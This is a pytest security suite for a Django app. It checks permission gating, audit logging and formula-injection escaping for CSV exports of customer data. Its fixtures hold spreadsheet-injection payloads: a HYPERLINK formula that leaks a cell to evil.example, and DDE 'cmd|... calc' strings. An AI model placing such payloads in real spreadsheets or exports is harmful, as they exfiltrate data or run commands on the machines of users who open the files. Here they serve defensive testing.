"""Bulk exports of personal data need ``export`` (owners, admins, keys issued with it), are audited
with their row count, and every CSV the product writes is UTF-8 with a BOM and has formula-looking
cells neutralised (C12)."""

from __future__ import annotations

import csv
import io

import pytest
from django_tenants.utils import tenant_context

from tenants.models import AuditLog
from tests.conftest import api_client
from tests.security.conftest import SYSTEM

BOM = "\ufeff"
EVIL_FIRST = '=HYPERLINK("http://evil.example/?d="&B3,"Open")'
EVIL_LAST = "+cmd|' /C calc'!A0"


@pytest.fixture
def segment(world):
    from analytics.services import segment_create
    from tests.customers.factories import CustomerFactory

    with tenant_context(world.alpha):
        CustomerFactory(first_name=EVIL_FIRST, last_name=EVIL_LAST, country="UY", email="evil@example.com")
        CustomerFactory(first_name="José", last_name="Díaz", country="UY", email="jose@example.com")
        CustomerFactory(first_name="@SUM(1+1)", last_name="-2+3", country="UY", email="at@example.com")
        return segment_create(name="Uruguay", rules={"op": "and", "rules": [
            {"field": "country", "operator": "eq", "value": "UY"}]}, actor=SYSTEM, tenant=world.alpha)


def body_of(response) -> bytes:
    return b"".join(response.streaming_content)


def rows_of(raw: bytes) -> list[list[str]]:
    assert raw.startswith(BOM.encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


@pytest.mark.parametrize("role", ["viewer", "analyst"])
def test_viewers_and_analysts_cannot_export(world, segment, alpha_client, role):
    client = alpha_client(world.user(f"alpha_{role}"))
    assert client.get(f"/api/v1/analytics/segments/{segment.pk}/export.csv").status_code == 403
    assert client.get(f"/analytics/segments/{segment.pk}/export.csv").status_code == 403
    assert not AuditLog.objects.filter(action="data.export").exists()


def test_a_read_key_cannot_export_and_an_export_key_can(world, segment, api_key):
    url = f"/api/v1/analytics/segments/{segment.pk}/export.csv"
    assert api_client("alpha.localhost", api_key(world.alpha, scopes=["read", "analytics"])).get(url).status_code == 403
    response = api_client("alpha.localhost", api_key(world.alpha, scopes=["read", "export"])).get(url)
    assert response.status_code == 200
    assert len(rows_of(body_of(response))) == 4


def test_admin_export_is_audited_neutralised_and_excel_friendly(world, segment, alpha_client):
    client = alpha_client(world.user("alpha_admin"))
    response = client.get(f"/api/v1/analytics/segments/{segment.pk}/export.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    raw = body_of(response)
    rows = rows_of(raw)
    by_email = {row[1]: row for row in rows[1:]}
    assert by_email["evil@example.com"][2] == "'" + EVIL_FIRST
    assert by_email["evil@example.com"][3] == "'" + EVIL_LAST
    assert by_email["at@example.com"][2:4] == ["'@SUM(1+1)", "'-2+3"]
    assert by_email["jose@example.com"][3] == "Díaz"
    assert "Díaz".encode() in raw
    entry = AuditLog.objects.get(tenant=world.alpha, action="data.export")
    assert entry.actor == world.user("alpha_admin") and entry.resource_type == "segment"
    assert entry.resource_id == str(segment.pk) and entry.changes["rows"] == 3


def test_portal_export_is_audited_too(world, segment, alpha_client):
    response = alpha_client(world.user("alpha_owner")).get(f"/analytics/segments/{segment.pk}/export.csv")
    assert response.status_code == 200
    rows_of(body_of(response))
    assert AuditLog.objects.filter(tenant=world.alpha, action="data.export", actor=world.user("alpha_owner"),
                                   changes__rows=3).exists()


def test_export_link_is_shown_only_to_export_holders(world, segment, alpha_client):
    link = f"/analytics/segments/{segment.pk}/export.csv"
    assert link in alpha_client(world.user("alpha_admin")).get(f"/analytics/segments/{segment.pk}/").content.decode()
    assert link not in alpha_client(world.user("alpha_viewer")).get(
        f"/analytics/segments/{segment.pk}/").content.decode()


# --- the one CSV writer -------------------------------------------------------------------------------


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("plain", "plain"), ("", ""), ("-12.50", "-12.50"), ("+5491155551234", "+5491155551234"),
    ("+54 9 11 5555-1234", "'+54 9 11 5555-1234"), (42, 42), (None, None),
])
def test_safe_cell(value, expected):
    from cdp.csv import safe_cell

    assert safe_cell(value) == expected


def test_csv_lines_and_file_writer_share_the_rules(tmp_path):
    from cdp.csv import CsvFileWriter, csv_lines, open_csv

    streamed = "".join(csv_lines([["name"], ["=evil"], ["Díaz"]]))
    assert streamed.startswith(BOM) and "'=evil" in streamed
    path = tmp_path / "out.csv"
    with open_csv(path) as handle:
        writer = CsvFileWriter(handle, fieldnames=["=header", "name"], extrasaction="ignore")
        writer.writeheader()
        writer.writerow({"=header": "@x", "name": "Díaz", "ignored": "=y"})
    raw = path.read_bytes()
    assert raw.startswith(BOM.encode())
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig")))) == [["'=header", "name"], ["'@x", "Díaz"]]


def test_the_import_commands_rejected_rows_file_is_neutralised(world, tmp_path):
    from django.core.management import call_command

    source = tmp_path / "orders.csv"
    source.write_text("external_order_id,customer_email,order_date,total_amount,currency\n"
                      "=cmd|' /C calc'!A0,ok@example.com,not-a-date,x,ARS\n", encoding="utf-8")
    call_command("import_orders", str(source), "--tenant", "alpha", "--no-progress", "--mode", "records")
    rejected = tmp_path / "orders.rejected.csv"
    assert rejected.exists()
    raw = rejected.read_bytes()
    assert raw.startswith(BOM.encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[1][rows[0].index("external_order_id")] == "'=cmd|' /C calc'!A0"
